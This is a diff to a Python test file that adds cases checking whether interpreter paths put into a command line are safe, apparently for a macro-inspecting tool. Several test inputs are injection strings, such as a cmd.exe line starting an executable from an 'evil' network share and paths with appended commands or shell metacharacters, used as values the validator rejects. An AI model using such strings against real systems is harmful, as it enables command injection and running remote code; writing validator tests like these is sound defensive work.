@@ -39,7 +39,7 @@ from traps import (
 
 from workbook.check.calls import report as calls_report
 from workbook.check.report import report
-from workbook.check.safety.addresses import path_fault
+from workbook.check.safety.addresses import path_fault, python_fault
 from workbook.check.safety.functions import OUTSIDE, reached
 from workbook.check.safety.projects import COMPILED
 from workbook.check.safety.verdict import Safety, judged
@@ -273,6 +273,10 @@ def test_modules_are_those_that_olevba_finds(macros: bytes) -> None:
          "has the short name DOWNLO~1, which hides the folder's own"),
         (r'C:\x\python.exe" & calc & "', "is not a file path"),
         (r"C:\x\notes.txt:python.exe", "is not a file path"),
+        (r"C:\Windows\System32\cmd.exe /c start \\evil\share\x.exe", "is not a file path"),
+        (r"C:\x\run.bat /c calc", "is not a file path"),
+        ("C:/x/python.exe -m evil", "is not a file path"),
+        (r"C:\my.executables\python.exe", ""),
         (r"C:\Python312\python.exe", ""),
         (r"c:\Program Files\R&D (x)\it's 100%\python.exe", ""),
         (r"\\?\C:\Python312\python.exe", ""),
@@ -284,6 +288,31 @@ def test_modules_are_those_that_olevba_finds(macros: bytes) -> None:
 )  # fmt: skip
 def test_paths(path: str, fault: str) -> None:
     assert path_fault(path) == fault
+
+
+@pytest.mark.parametrize(
+    ("path", "fault"),
+    [
+        (r"C:\Program Files\Python 3.12\python.exe", ""),
+        (r"%LOCALAPPDATA%\Programs\Python\Python312\pythonw.exe", ""),
+        ("C:/Python312/PYTHON3.12.EXE", ""),
+        ("/opt/venv/bin/python3.12", ""),
+        (r"C:\Windows\System32\cmd.exe", "is not a Python"),
+        (r"C:\Windows\py.exe", "is not a Python"),
+        (r"C:\Python312\python", "is not a Python"),
+        (r"C:\Python312\python.bat", "is not a Python"),
+        (r"C:\python.exe\cmd.exe", "is not a file path"),
+        (r"C:\python\cmd.exe", "is not a Python"),
+        ("/bin/sh", "is not a Python"),
+        ("/usr/bin/python3;open x", "is not a file path"),
+        (r"C:\R&D\python.exe", "is not a file path"),
+        (r"C:\%a b%\python.exe", "is not a file path"),
+        (r"C:\a^b\python.exe", "is not a file path"),
+        (r"\\server\python.exe", "is on another machine"),
+    ],
+)
+def test_what_is_put_into_a_command_line(path: str, fault: str) -> None:
+    assert python_fault(path) == fault
 
 
 @pytest.mark.parametrize(
